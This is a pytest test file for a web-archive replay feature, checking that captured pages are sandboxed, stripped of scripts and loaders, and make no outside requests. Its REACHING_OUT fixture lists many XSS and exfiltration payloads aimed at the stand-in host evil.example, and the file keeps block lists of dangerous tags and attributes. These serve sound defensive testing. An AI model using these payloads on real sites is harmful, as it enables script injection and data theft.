"""A captured page is shown again out of the record alone: nothing of it runs, and nothing leaves."""

import base64
import re
from datetime import UTC, datetime

import html5lib
import pytest
from lxml import etree
from sqlalchemy import select

from hub.archive.documents import ArchivedPosts
from hub.archive.models import ArchivedPost, SourceSlice
from hub.archive.replaying import page as replayed
from hub.archive.storage import MediaStore
from hub.core.database import db, unit_of_work
from tests.archive.reading import SAMPLES, beside
from tests.conftest import DATABASES
from tests.factories.archived import bring_in
from tests.factories.examples import scene  # noqa: F401
from tests.factories.people import person, sign_in
from tests.factories.web_archive import PAGE, WebArchive, page_of
from tests.factories.x_archive import XArchive, png
from tests.house.conftest import HOST, browse  # noqa: F401

WORDS = "Open on Monday from nine."
LATER = "2024-03-09T10:00:00Z"
EVIL = "https://evil.example"

GONE = {"script", "iframe", "object", "embed", "base", "meta", "link", "form", "input", "template", "frame",
        "use", "image", "source"}  # fmt: skip
LEADING = ("href", "ping", "action", "formaction", "srcset", "srcdoc", "data", "xlink:href")
LOADING = ("src", "poster", "background")

# Every way of reaching out that pages know.
REACHING_OUT = f"""
<script>fetch("{EVIL}/script")</script><script src="{EVIL}/src.js"></script>
<img src="{EVIL}/img.png" onerror="fetch('{EVIL}/onerror')" srcset="{EVIL}/set.png 2x">
<picture><source srcset="{EVIL}/picture.png"><img src="x"></picture>
<svg onload="fetch('{EVIL}/svg')"><image href="{EVIL}/svgimage"/><use href="{EVIL}/use#a"/>
<rect fill="url({EVIL}/fill#a)"/><a href="{EVIL}/svga"><text>x</text></a></svg>
<iframe src="{EVIL}/iframe" srcdoc="<script>fetch('{EVIL}/srcdoc')</script>"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video src="{EVIL}/v" poster="{EVIL}/p"></video>
<link rel="stylesheet" href="{EVIL}/css"><link rel="preload" as="image" href="{EVIL}/preload">
<link rel="dns-prefetch" href="{EVIL}"><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<base href="{EVIL}/base/"><form action="{EVIL}/form" id="f"><input name="q"><button>Send</button></form>
<div style="background:url({EVIL}/style); --x: url('{EVIL}/var')">styled</div>
<style>@import "{EVIL}/import"; @import url({EVIL}/import2); p {{ background: u\\72l({EVIL}/escaped) }}
@font-face {{ font-family: f; src: url("{EVIL}/font") }} h1 {{ font-family: f;
background-image: image-set("{EVIL}/set" 1x); content: "</style><img src={EVIL}/broken>" }}</style>
<a href="{EVIL}/link" ping="{EVIL}/ping" id="leave">Leave</a><a href="javascript:fetch('{EVIL}/js')">Run</a>
<math><mtext><style><img src="{EVIL}/math"></style></mtext></math>
<noscript><p title="</noscript><img src={EVIL}/m>">
<body background="{EVIL}/body"><table background="{EVIL}/table"><tr><td>x</td></tr></table>
<template><img src="{EVIL}/template"></template><frameset><frame src="{EVIL}/frame"></frameset>
"""

# All but what hides the rest of the page from whoever does not run scripts.
OPENLY = REACHING_OUT.partition("<noscript>")[0]


@pytest.fixture
def bring(kept, tmp_path):
    def in_(archive: WebArchive) -> str:
        """Bring it in; the path of its (last) post."""
        kept.bring_in(archive.write(tmp_path / "a.warc.gz"))
        return db.session.scalars(select(ArchivedPost).order_by(ArchivedPost.id.desc())).first().path

    return in_


def framed(browser, path: str):
    """What stands in the frame of a replay page."""
    page = browser.get(f"{path}/replay").get_data(as_text=True)
    return browser.get(re.search(r'<iframe[^>]* src="([^"]+)"', page)[1])


def plain(response) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.get_data(as_text=True)))


# What is seen.


def test_a_page_stands_in_the_list_at_its_capture(bring):
    bring(WebArchive().page(WORDS, at="2020-10-07T21:22:36Z"))
    page = db.session.scalars(select(ArchivedPost)).one()
    assert page.posted_at is None
    assert page.sort_at == datetime(2020, 10, 7, 21, 22, 36, tzinfo=UTC)


@pytest.mark.parametrize("app", DATABASES, indirect=True)
def test_a_page_is_shown_with_its_styles_and_pictures_out_of_the_record(browser, bring):
    archive = WebArchive().answer("https://fonts.example/font.css", b"h1 { color: navy }", "text/css")
    shown = framed(browser, bring(archive.page(WORDS))).get_data(as_text=True)
    assert WORDS in shown
    assert f'src="data:image/png;base64,{base64.b64encode(png(60, 40)).decode()}"' in shown
    assert f'background: url("data:image/png;base64,{base64.b64encode(png(20, 20)).decode()}' in shown
    imported = base64.b64encode(b"h1 { color: navy }").decode()
    assert f'@import "data:text/css;base64,{imported}"' in shown


def test_above_it_stands_what_it_is_when_it_was_captured_and_what_is_missing(browser, bring):
    page = plain(browser.get(bring(WebArchive().page(WORDS)) + "/replay"))
    assert "not the page on the web" in page
    assert "1 March 2024, 09:00" in page
    assert "WARC, import 1" in page
    assert "Scripts are off" in page
    assert "own checksum agrees" in page
    assert "2 parts that this page calls for are not in the record" in page
    assert "https://tracker.example/pixel.gif" in page


def test_a_record_whose_checksum_is_wrong_says_so(browser, kept, tmp_path):
    data = WebArchive(gzipped=False).page(WORDS).data.replace(b"Monday", b"Sunday")
    path = tmp_path / "a.warc"
    path.write_bytes(data)
    kept.bring_in(path)
    post = db.session.scalars(select(ArchivedPost)).one()
    assert "own checksum does not agree" in plain(browser.get(post.path + "/replay"))


def test_a_record_of_which_only_what_the_server_sent_is_as_summed_up_says_so(browser, kept, tmp_path):
    data = WebArchive(gzipped=False).page(WORDS).data.replace(b"HTTP/1.1 200 OK", b"HTTP/1.1 200 Ok", 1)
    path = tmp_path / "a.warc"
    path.write_bytes(data)
    kept.bring_in(path)
    post = db.session.scalars(select(ArchivedPost)).one()
    assert "what the server sent agrees" in plain(browser.get(post.path + "/replay"))


def test_each_capture_is_shown_as_it_was(browser, bring):
    path = bring(WebArchive().page(WORDS).page("Closed.", at=LATER))
    page = browser.get(path + "/replay").get_data(as_text=True)
    other = re.search(r'href="([^"]+\?capture=[0-9a-f]{64})"', page)[1]
    assert "Closed." in framed(browser, path).get_data(as_text=True)
    frame = re.search(r'<iframe[^>]* src="([^"]+)"', browser.get(other).get_data(as_text=True))[1]
    assert WORDS in browser.get(frame).get_data(as_text=True)


def test_a_capture_that_was_as_before_shows_the_page_of_before(browser, bring):
    body = page_of(WORDS)
    path = bring(WebArchive().answer(PAGE, body).revisit(PAGE, body, at=LATER))
    assert "9 March 2024" in plain(browser.get(path + "/replay"))
    assert WORDS in framed(browser, path).get_data(as_text=True)


def test_pictures_that_come_late_or_in_sets_are_found(browser, bring):
    late = '<img src="data:image/gif;base64,R0" data-src="/hall.png">'
    body = late + '<picture><source srcset="/hall.png 2x"><img></picture>'
    shown = framed(browser, bring(WebArchive().page(WORDS, body=body))).get_data(as_text=True)
    assert shown.count(base64.b64encode(png(60, 40)).decode()) == 3


def test_what_is_meant_for_browsers_without_scripts_is_not_shown_but_for_pictures(browser, bring):
    body = "<noscript>Turn scripts on!</noscript><noscript><img src='/hall.png' alt='late'></noscript>"
    shown = framed(browser, bring(WebArchive().page(WORDS, body=body))).get_data(as_text=True)
    assert "Turn scripts on" not in shown
    assert 'alt="late"' in shown


def test_a_page_that_cannot_be_unpacked_says_so_and_offers_its_bytes(browser, bring):
    path = bring(WebArchive().answer(PAGE, b"\x8b\x03", fields=[("Content-Encoding", "br")]))
    assert "cannot be shown again" in plain(browser.get(path + "/replay"))


def test_a_record_whose_file_is_gone_is_said_to_be_unreadable_and_nothing_breaks(browser, kept, bring):
    kept.tampered = True
    path = bring(WebArchive().page(WORDS, body="<p>" + "long " * 30_000))
    for file in MediaStore(kept.collection.token).files():
        file.unlink()
    assert "cannot be shown again" in plain(browser.get(path + "/replay"))


def test_the_post_leads_to_its_page_and_other_posts_do_not(browser, kept, bring):
    path = bring(WebArchive().page(WORDS))
    assert f'{path}/replay"' in browser.get(path).get_data(as_text=True)
    export = XArchive()
    export.post("Hello", "2024-03-01T09:00")
    kept.bring_in(export)
    other = db.session.scalars(select(ArchivedPost).where(ArchivedPost.platform == "x")).one()
    assert "/replay" not in browser.get(other.path).get_data(as_text=True)
    assert browser.get(other.path + "/replay").status_code == 404


# Who sees it.


def test_nobody_but_its_keepers_sees_a_captured_page(client, kept, bring):
    path = bring(WebArchive().page(WORDS))
    sha256 = db.session.scalars(select(SourceSlice.sha256)).first()
    sign_in(client, person("Other", handle="other"))
    assert client.get(path + "/replay").status_code == 404
    assert client.get(f"{path}/replay/{sha256}").status_code == 404


def test_where_it_is_an_example_its_card_is_shown_and_the_page_is_not(client, scene, tmp_path):  # noqa: F811
    bring_in(scene.keeper, scene.collection, WebArchive().page(WORDS).write(tmp_path / "a.warc.gz"))
    scene.attach("Monday from nine")
    reader = sign_in(client, scene.member)
    assert WORDS in plain(reader.get(scene.item.path))
    path = db.session.scalars(select(ArchivedPost).where(ArchivedPost.platform == "web")).one().path
    sha256 = db.session.scalars(select(SourceSlice.sha256).order_by(SourceSlice.id.desc())).first()
    assert reader.get(path + "/replay").status_code == 404
    assert reader.get(f"{path}/replay/{sha256}").status_code == 404


def test_the_pages_words_are_found_by_its_keepers(bring):
    path = bring(WebArchive().page(WORDS))
    (document,) = ArchivedPosts().load(list(ArchivedPosts().keys()))
    assert (WORDS in document.text, "Library opening hours" in document.text) == (True, True)
    assert document.url == path


def test_only_captures_of_the_post_itself_are_shown(browser, bring):
    path = bring(WebArchive().page(WORDS))
    assert browser.get(f"{path}/replay/{'0' * 64}").status_code == 404
    assert browser.get(f"{path}/replay?capture={'0' * 64}").status_code == 404


# What it may do: nothing.


def test_the_frame_has_no_rights_and_its_policy_lets_it_load_nothing(browser, bring):
    path = bring(WebArchive().page(WORDS))
    outer = browser.get(path + "/replay")
    assert re.search(r'<iframe class="replay" sandbox src=', outer.get_data(as_text=True))
    assert "frame-src 'self'" in outer.headers["Content-Security-Policy"]
    assert "script-src 'self'" in outer.headers["Content-Security-Policy"]
    policy = dict(
        part.strip().partition(" ")[::2]
        for part in framed(browser, path).headers["Content-Security-Policy"].split(";")
    )
    assert policy["default-src"] == "'none'"
    assert "script-src" not in policy
    assert policy["sandbox"] == ""
    assert {policy[name] for name in ("img-src", "font-src", "media-src")} == {"data:"}
    assert policy["frame-ancestors"] == "'self'"


def test_other_pages_keep_the_sites_policy(browser, bring):
    policy = browser.get(bring(WebArchive().page(WORDS))).headers["Content-Security-Policy"]
    assert "frame-src" not in policy
    assert "frame-ancestors 'none'" in policy


def test_nothing_that_runs_or_loads_is_left_in_the_page(browser, bring):
    shown = framed(browser, bring(WebArchive().page(WORDS, body=REACHING_OUT))).get_data(as_text=True)
    assert WORDS in shown
    assert "Leave" in shown
    # As a browser reads it, not as it was written.
    nodes = list(html5lib.parse(shown, treebuilder="lxml", namespaceHTMLElements=False).iter("*"))
    assert not GONE & {etree.QName(node).localname for node in nodes}
    attributes = [(name, value) for node in nodes for name, value in node.attrib.items()]
    assert not [name for name, _ in attributes if name.startswith("on") or name in LEADING]
    assert all(value.startswith("data:") for name, value in attributes if name in LOADING)


@pytest.mark.parametrize("scripts", [True, False])
def test_no_request_leaves_for_another_host_whatever_the_page_tries(browser, bring, browse, scripts):  # noqa: F811
    path = bring(WebArchive().page(WORDS, body=REACHING_OUT, head=OPENLY))
    page = browse(browser, path + "/replay", scripts=scripts)
    frame = page.frames[1]
    assert WORDS in frame.content()
    page.frame_locator("iframe.replay").locator("#leave").first.click()
    page.wait_for_timeout(300)
    assert page.strangers == []
    assert frame.url.startswith(HOST)


def test_even_a_page_that_was_not_cleaned_could_ask_nobody(browser, bring, browse, monkeypatch):  # noqa: F811
    """The walls behind the first one hold by themselves."""
    path = bring(WebArchive().page(WORDS, body=REACHING_OUT))
    monkeypatch.setattr(replayed._Maker, "clean", lambda _maker, _tree: None)
    page = browse(browser, path + "/replay")
    page.wait_for_timeout(300)
    assert page.strangers == []


def test_pictures_fonts_and_styles_are_really_drawn(browser, bring, browse):  # noqa: F811
    blue = b"h1 { color: rgb(0, 0, 128) }"
    archive = WebArchive().answer("https://fonts.example/font.css", blue, "text/css")
    frame = browse(browser, bring(archive.page(WORDS)) + "/replay").frame_locator("iframe.replay")
    assert frame.locator("main img").evaluate("one => one.naturalWidth") == 60
    assert frame.locator("h1").evaluate("one => getComputedStyle(one).color") == "rgb(0, 0, 128)"


# Real pages.


def test_webrecorders_page_is_shown_from_its_record_alone(browser, kept, browse):  # noqa: F811
    kept.bring_in(beside(SAMPLES / "warc") / "netpreserve-twitter.warc")
    for post in db.session.scalars(select(ArchivedPost)).all():
        page = browse(browser, post.path + "/replay")
        assert page.strangers == []
    blog = db.session.scalars(select(ArchivedPost).where(ArchivedPost.url.contains("anniversary"))).one()
    assert "10th" in framed(browser, blog.path).get_data(as_text=True)


def test_erased_bytes_are_not_shown(browser, kept, bring):
    kept.tampered = True  # without the erasure that would say so
    path = bring(WebArchive().page(WORDS))
    with unit_of_work() as session:
        for found in session.scalars(select(SourceSlice)):
            found.raw = b""
    assert "cannot be shown again" in plain(browser.get(path + "/replay"))
